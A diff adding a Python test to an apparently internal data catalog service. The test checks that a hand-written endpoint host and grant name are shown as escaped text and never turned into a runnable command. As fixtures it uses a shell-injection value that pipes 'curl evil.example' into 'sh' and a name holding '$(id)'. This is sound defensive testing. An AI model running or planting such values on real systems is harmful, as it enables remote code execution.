@@ -176,3 +176,35 @@ def test_a_hidden_products_table_is_nowhere_in_the_catalog() -> None:
         )
 
     serve(example_store(extra=[hidden, reader]), check)
+
+
+def test_an_endpoint_a_shell_would_read_as_more_than_names_gets_no_command() -> None:
+    """A status written by hand may hold anything; a line a reader copies into a shell must
+    not run what it holds. The endpoint is still shown, as text."""
+    obj = _orders_in_a_store()
+    hostile = "db'; curl evil.example | sh; echo '"
+    obj["status"]["outputPorts"][0]["endpoint"]["host"] = hostile
+    obj["status"]["outputPorts"][0]["grants"].append(
+        {"kind": "ServiceAccount", "name": "x$(id)", "namespace": "finance", "role": "r"}
+    )
+    fine = _orders_in_a_store()
+    fine["status"]["outputPorts"][0]["grants"].append(
+        {"kind": "ServiceAccount", "name": "x$(id)", "namespace": "finance", "role": "r"}
+    )
+
+    async def check(client: TestClient[Any, Any]) -> None:
+        shown = html_text.unescape(await page(client, "/dataproducts/sales/orders"))
+        assert hostile in shown  # shown as text, escaped in the HTML
+        assert "psql" not in shown and "kubectl get secret" not in shown
+
+    serve(example_store(extra=[obj]), check)
+
+    async def check_grant(client: TestClient[Any, Any]) -> None:
+        detail = await api(client, "/api/v1/dataproducts/sales/orders")
+        (port,) = [p for p in detail["ports"] if p["name"] == "orders-v1"]
+        assert [r["reader"] for r in port["reads"]] == [
+            "ServiceAccount finance/revenue",
+            "Group finance-analysts",
+        ]
+
+    serve(example_store(extra=[fine]), check_grant)
